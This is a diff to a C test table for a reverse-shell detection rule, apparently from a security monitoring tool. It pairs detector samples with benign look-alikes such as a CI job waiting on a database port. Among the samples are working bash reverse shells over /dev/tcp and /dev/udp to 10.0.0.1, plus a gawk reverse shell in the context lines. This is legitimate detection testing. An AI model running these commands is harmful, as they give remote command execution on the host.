@@ -191,6 +191,18 @@ static const struct row rows[] = {
 	  .why = "node child_process one-liner" },
 	{ "script-inline-shell-or-socket", false,
 	  { EXEC("/usr/bin/perl", "perl\t-ne\tprint if /^Version/\tdebian/control") }, .why = "perl text filter" },
+	{ "shell-dev-tcp-command-loop", true,
+	  { EXEC("/usr/bin/bash", "bash\t-c\texec 5<>/dev/tcp/10.0.0.1/4242;cat <&5 | while read line; do $line 2>&5 >&5; done") },
+	  .why = "bash read-line reverse shell" },
+	{ "shell-dev-tcp-command-loop", true,
+	  { EXEC("/usr/bin/bash", "bash\t-c\texec 3<>/dev/udp/10.0.0.1/53; while read -r c; do eval \"$c\" >&3 2>&1; done <&3") },
+	  .why = "the same over UDP, commands through eval" },
+	{ "shell-dev-tcp-command-loop", false,
+	  { EXEC("/usr/bin/bash", "bash\t-c\tuntil echo > /dev/tcp/db/5432; do sleep 1; done") },
+	  .why = "a CI job waiting for its database's port" },
+	{ "shell-dev-tcp-command-loop", false,
+	  { EXEC("/usr/bin/bash", "bash\t-c\t</dev/tcp/127.0.0.1/8080 && while read l; do echo \"$l\"; done < ports.txt") },
+	  .why = "a port check, then a loop that prints" },
 	{ "awk-network-connection", true,
 	  { EXEC("/usr/bin/gawk", "awk\tBEGIN {s=\"/inet/tcp/0/10.0.0.1/4242\";while(42){do{printf \"> \" |& s;"
 				  "s |& getline c;if(c){while((c |& getline) > 0)print $0 |& s;close(c)}}"
